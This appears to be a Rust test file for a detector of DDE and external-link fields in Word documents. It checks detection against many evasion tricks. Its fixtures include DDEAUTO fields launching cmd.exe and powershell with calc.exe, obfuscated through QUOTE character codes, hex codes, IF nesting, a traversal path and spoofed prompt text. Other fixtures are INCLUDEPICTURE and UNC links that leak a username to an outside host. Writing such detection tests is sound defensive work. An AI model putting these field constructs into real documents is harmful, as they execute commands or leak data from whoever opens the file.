//! What whole fields amount to: the test cases of `spec/word.md` §0.8 and §6.4, and what is
//! written to evade them.

mod budget;
mod evasions;
mod techniques;

use super::environment::Environment;
use super::outcome::{Answer, External, Found, Outcome};
use super::tree::{Begin, Forest, Style};
use super::variants::{assign, evaluate};
use crate::limits::{Budget, Exhausted, Limit, Limits};
use crate::link::{Carrier, Confidence, TechniqueId};

/// Builds fields from text with the marks of Word's binary format: 13 begins, 14 separates,
/// 15 ends.
fn forest(text: &str, budget: &Budget<'_>) -> Forest {
    let mut forest = Forest::default();
    forest.begin_part(0);
    for piece in text.split_inclusive(['\u{13}', '\u{14}', '\u{15}']) {
        let plain = piece.trim_end_matches(['\u{13}', '\u{14}', '\u{15}']);
        forest.next_element();
        forest.text(plain, Style::default(), budget).unwrap();
        match piece.chars().last() {
            Some('\u{13}') => forest.begin(Begin::default(), budget).unwrap(),
            Some('\u{14}') => forest.separate(budget).unwrap(),
            Some('\u{15}') => forest.end(budget).unwrap(),
            _ => {}
        }
    }
    forest.end_part();
    forest
}

/// What the document says besides its fields.
#[derive(Clone, Copy)]
enum Say<'a> {
    Variable(&'a str, &'a str),
    Property(&'a str, &'a str),
    Passage(&'a str, &'a str),
    Block(&'a str, &'a str),
}

fn answers(forest: &Forest, says: &[Say<'_>], budget: &Budget<'_>) -> Vec<Answer> {
    let mut environment = Environment::default();
    for say in says {
        assert!(match say {
            Say::Variable(name, value) => environment.variable(name, value, budget),
            Say::Property(name, value) => environment.property(name, value, budget),
            Say::Passage(name, value) => environment.passage(name, value, budget),
            Say::Block(name, value) => environment.building_block(name, value, budget),
        });
    }
    let mut ended = Answer::default();
    for _ in 0..2 {
        for root in forest.roots() {
            if let Err(cause) = assign(forest, root, &mut environment, budget) {
                ended.end(cause);
            }
        }
    }
    let mut answers: Vec<Answer> = forest
        .roots()
        .map(|root| evaluate(forest, root, &mut environment, budget))
        .collect();
    answers.push(ended);
    environment.clear(budget);
    answers
}

fn with(text: &str, says: &[Say<'_>]) -> Vec<Found> {
    let limits = Limits::default();
    let budget = Budget::new(&limits, None);
    let forest = forest(text, &budget);
    let answers = answers(&forest, says, &budget);
    answers
        .into_iter()
        .flat_map(|answer| {
            assert!(answer.ended.is_empty(), "{:?}", answer.ended);
            answer.found
        })
        .collect()
}

/// What the fields in `text` do; braces stand for marks.
fn found(text: &str) -> Vec<Found> {
    with(&marks(text), &[])
}

fn marks(text: &str) -> String {
    text.replace('{', "\u{13}")
        .replace('|', "\u{14}")
        .replace('}', "\u{15}")
}

fn one(text: &str) -> Found {
    let mut found = found(text);
    assert_eq!(found.len(), 1, "{found:#?}");
    found.remove(0)
}

type Triple<'a> = (bool, Option<&'a str>, Option<&'a str>, Option<&'a str>);

fn triples(found: &Found) -> Vec<Triple<'_>> {
    match &found.outcome {
        Outcome::Dde { auto, readings } => readings
            .iter()
            .map(|reading| {
                (
                    *auto,
                    reading.service.as_deref(),
                    reading.topic.as_deref(),
                    reading.item.as_deref(),
                )
            })
            .collect(),
        other @ (Outcome::External(_) | Outcome::Literal(_)) => panic!("no DDE: {other:?}"),
    }
}

fn has(found: &Found, id: TechniqueId) -> bool {
    found.techniques.iter().any(|technique| technique.id == id)
}

fn external(text: &str) -> External {
    match one(text).outcome {
        Outcome::External(external) => external,
        other @ (Outcome::Dde { .. } | Outcome::Literal(_)) => panic!("{other:?}"),
    }
}

const CMD: &str = r"c:\windows\system32\cmd.exe";

#[test]
fn f1_a_plain_field() {
    let field = one(r#"{ DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" |x}"#);
    assert_eq!(
        triples(&field),
        [(true, Some(CMD), Some("/k calc.exe"), None)]
    );
    assert_eq!(field.confidence, Confidence::Certain);
    assert_eq!(
        field.raw,
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe""#
    );
    assert!(field.techniques.is_empty(), "{:?}", field.techniques);
    let Outcome::Dde { readings, .. } = field.outcome else {
        panic!();
    };
    assert_eq!(
        readings[0].resolved,
        r#"DDEAUTO c:\windows\system32\cmd.exe "/k calc.exe""#
    );
}

#[test]
fn f2_a_service_alone() {
    assert_eq!(
        triples(&one("{ddeauto ünicöde-test}")),
        [(true, Some("ünicöde-test"), None, None)]
    );
}

#[test]
fn f3_codes_with_blanks_are_one_argument() {
    let field = one("{DDEAUTO {QUOTE 99 109 100|?} {QUOTE 47 107 32 99 97 108 99|?}|}");
    assert_eq!(
        triples(&field),
        [(true, Some("cmd"), Some("/k calc"), None)]
    );
    assert!(has(&field, TechniqueId::QuoteCodes));
    assert!(has(&field, TechniqueId::NestedField));
    assert_eq!(
        field.raw,
        "DDEAUTO {QUOTE 99 109 100} {QUOTE 47 107 32 99 97 108 99}"
    );
}

#[test]
fn f4_hexadecimal_codes_and_shape() {
    let field = one("{DDEAUTO {QUOTE 0x63 0x6d 0x64} {SHAPE 47 99}}");
    assert_eq!(triples(&field), [(true, Some("cmd"), Some("/c"), None)]);
    assert!(has(&field, TechniqueId::HexCodes));
    assert!(has(&field, TechniqueId::ShapeAlias));
}

#[test]
fn f5_inside_an_if() {
    let field = one(r#"{IF 1 = 1 "{DDEAUTO cmd "/c calc"}" "no"}"#);
    assert_eq!(
        triples(&field),
        [(true, Some("cmd"), Some("/c calc"), None)]
    );
    assert!(has(&field, TechniqueId::NestedInIf));
}

#[test]
fn f6_quoted_text_is_no_field() {
    assert!(found(r#"{QUOTE "DDEAUTO c:\\x"}"#).is_empty());
    assert!(found(r#"{QUOTE "hello DDEAUTO world"}{PAGE}"#).is_empty());
    assert!(found("{TITLE|DDEAUTO is a field}").is_empty());
}

#[test]
fn f7_single_backslashes() {
    let field = one(r#"{DDEAUTO "c:\windows\system32\cmd.exe" "/k"}"#);
    assert!(triples(&field).contains(&(true, Some(CMD), Some("/k"), None)));
}

#[test]
fn f8_a_bare_bookmark() {
    let field = one(r#"{SET c "{QUOTE 67 77 68}"}{DDE {c} "/c calc"}"#);
    assert_eq!(
        triples(&field),
        [(false, Some("CMD"), Some("/c calc"), None)]
    );
}

#[test]
fn names_are_known_before_they_are_set() {
    let field = one(r#"{DDE {REF C} "/c calc"}{SET c "{REF d}"}{SET d cmd}"#);
    assert_eq!(triples(&field)[0].1, Some("cmd"));
}

#[test]
fn a_name_that_is_set_twice_has_two_readings() {
    let field = one(r#"{SET c one}{SET c two}{DDE {REF c} t}{SET c three}"#);
    let services: Vec<_> = triples(&field).iter().map(|triple| triple.1).collect();
    assert_eq!(services, [Some("two"), Some("one"), Some("three")]);
}

#[test]
fn f9_the_third_argument_is_social_text() {
    let field = one(
        r#"{DDEAUTO "C:\\Programs\\Microsoft\\Office\\MSWord.exe\\..\\..\\..\\..\\windows\\system32\\cmd.exe" "/c calc.exe" "for security reasons"}"#,
    );
    assert_eq!(
        triples(&field),
        [(
            true,
            Some(r"C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\windows\system32\cmd.exe"),
            Some("/c calc.exe"),
            Some("for security reasons")
        )]
    );
    assert!(has(&field, TechniqueId::PromptSpoof));
    assert!(!has(
        &one("{DDE Excel.Sheet.8 \"c:\\\\a b.xls\" \"My Sheet!R1C1\"}"),
        TechniqueId::PromptSpoof
    ));
}

#[test]
fn f10_literal_braces_are_inert() {
    let found = with("\u{13} { DDEAUTO cmd \"/k\" } \u{15}", &[]);
    assert_eq!(found.len(), 1);
    let Outcome::Literal(reading) = &found[0].outcome else {
        panic!("{found:?}");
    };
    assert_eq!(reading.service.as_deref(), Some("cmd"));
    assert_eq!(reading.topic.as_deref(), Some("/k"));
    assert_eq!(reading.item, None);
    assert!(with("\u{13} { PAGE } \u{15}", &[]).is_empty());
    assert!(with("\u{13} { DDEAUTO } \u{15}", &[]).is_empty());
}

#[test]
fn switches_and_blanks() {
    let field = one("{\r\n DDE Excel.Sheet.12 \"c:\\\\a.xlsx\" R1C1 \\a \\p \\* MERGEFORMAT }");
    assert_eq!(
        triples(&field),
        [(
            true,
            Some("Excel.Sheet.12"),
            Some(r"c:\a.xlsx"),
            Some("R1C1")
        )]
    );
    let field = one("{DDE a b \\r}");
    assert_eq!(triples(&field), [(false, Some("a"), Some("b"), None)]);
    assert_eq!(triples(&one("{DDEAUTO\"c:\\\\x\"}"))[0].1, Some(r"c:\x"));
    assert!(found("{DDEAUTOc:\\\\x}").is_empty());
}

#[test]
fn a_keyword_from_a_nested_field() {
    let field = one(r#"{{QUOTE 68 68 69} c:\\cmd.exe "/c calc"}"#);
    assert_eq!(triples(&field)[0].1, Some(r"c:\cmd.exe"));
    assert_eq!(field.confidence, Confidence::Medium);
    assert!(has(&field, TechniqueId::NestedKeyword));
    let field = one("{DD{QUOTE 69}AUTO cmd}");
    assert_eq!(triples(&field)[0], (true, Some("cmd"), None, None));
    let field = one("{{QUOTE \"DDEAUTO cmd calc\"}}");
    assert_eq!(triples(&field)[0], (true, Some("cmd"), Some("calc"), None));
    assert_eq!(field.confidence, Confidence::Medium);
    let field = one("{\"DDEAUTO\" cmd calc}");
    assert_eq!(field.confidence, Confidence::Low);
}

#[test]
fn codes_inside_a_quoted_argument() {
    let field = one(r#"{DDEAUTO "C:\\{QUOTE 87 105 110|?}\\x.exe -w 1" "doc"}"#);
    assert_eq!(triples(&field)[0].1, Some(r"C:\Win\x.exe -w 1"));
}

#[test]
fn variables_and_what_nobody_knows() {
    let field = with(
        &marks(r#"{DDEAUTO {DOCVARIABLE p1|} "/k calc.exe"}"#),
        &[Say::Variable("P1", CMD)],
    );
    assert_eq!(
        triples(&field[0]),
        [(true, Some(CMD), Some("/k calc.exe"), None)]
    );
    let field = one(r#"{DDEAUTO {MERGEFIELD app|cmd} "/k calc.exe"}"#);
    assert_eq!(triples(&field)[0].1, Some("cmd"));
    let field = one(r#"{DDEAUTO {MERGEFIELD app} "/k calc.exe"}"#);
    assert_eq!(triples(&field)[0].1, Some("⟦MERGEFIELD app⟧"));
    assert!(has(&field, TechniqueId::Unresolved));
}

#[test]
fn both_branches_of_an_if_are_readings() {
    let field = one(r#"{DDEAUTO {IF {MERGEFIELD x} = 1 cmd powershell} t}"#);
    let services: Vec<_> = triples(&field).iter().map(|triple| triple.1).collect();
    assert!(services.contains(&Some("cmd")) && services.contains(&Some("powershell")));
}

#[test]
fn fields_in_results_and_unclosed_fields_count() {
    let field = one("{PAGE|{DDEAUTO cmd calc}}");
    assert!(has(&field, TechniqueId::NestedInField));
    let field = one("{DDEAUTO cmd calc");
    assert!(has(&field, TechniqueId::Unclosed));
    assert_eq!(field.confidence, Confidence::High);
    assert_eq!(found("}|{DDEAUTO cmd calc|x|y}}").len(), 1);
}

#[test]
fn more_readings_than_the_limit() {
    let limits = Limits {
        variants: 2,
        ..Limits::default()
    };
    let budget = Budget::new(&limits, None);
    let forest = forest(
        &marks("{SET c one}{SET c two}{SET c three}{DDE {REF c} t}"),
        &budget,
    );
    let last = answers(&forest, &[], &budget).remove(3);
    assert_eq!(triples(&last.found[0]).len(), 2);
    assert_eq!(last.ended, [Exhausted::Limit(Limit::Variants)]);
}

#[test]
fn l01_to_l10_other_links() {
    let link = external(r#"{LINK Word.Document.8 "http://x/a.doc" "" \a \f 0 \r}"#);
    assert_eq!(link.carrier, Carrier::LinkField);
    assert_eq!(link.class.as_deref(), Some("Word.Document.8"));
    assert_eq!(link.target, "http://x/a.doc");
    assert!(link.auto && link.item.is_none());
    let include = external(r#"{INCLUDETEXT "\\\\host\\s\\a.docx" bm}"#);
    assert_eq!(include.carrier, Carrier::IncludeText);
    assert_eq!(include.target, r"\\host\s\a.docx");
    let picture = external(r#"{INCLUDEPICTURE "http://x/{USERNAME}.png" \d}"#);
    assert_eq!(picture.carrier, Carrier::IncludePicture);
    assert_eq!(picture.target, "http://x/⟦USERNAME⟧.png");
    let database = external(r#"{DATABASE \c "DSN=x;DBQ=\\\\h\\s\\a.mdb" \s "SELECT *"}"#);
    assert_eq!(database.carrier, Carrier::DatabaseField);
    assert_eq!(database.target, r"DSN=x;DBQ=\\h\s\a.mdb");
    assert!(database.resolved.contains("SELECT *"));
    let hyperlink = external(r#"{HYPERLINK "https://example.com"}"#);
    assert_eq!(hyperlink.carrier, Carrier::Hyperlink);
    assert_eq!(
        external(r#"{IMPORT "http://x/a.wmf"}"#).carrier,
        Carrier::IncludePicture
    );
    assert_eq!(external("{RD \"a.doc\" \\f}").carrier, Carrier::RdField);
    assert_eq!(
        external(r#"{INCLUDETEXT "\\host\share\a.docx"}"#).target,
        r"\\host\share\a.docx"
    );
}

#[test]
fn links_into_the_document_and_ordinary_fields_are_nothing() {
    for text in [
        r#"{HYPERLINK \l "_Toc1234"|x}"#,
        r#"{TOC \o "1-3" \h|{HYPERLINK \l "_Toc1"|a {PAGEREF _Toc1 \h|1}}}"#,
        "{= {PAGE} + 1}",
        "{FORMTEXT|x}",
        "{GOTOBUTTON b x}",
        "{IF {PAGE} = 1 a b}",
        "{}",
    ] {
        assert!(found(text).is_empty(), "{text}");
    }
}
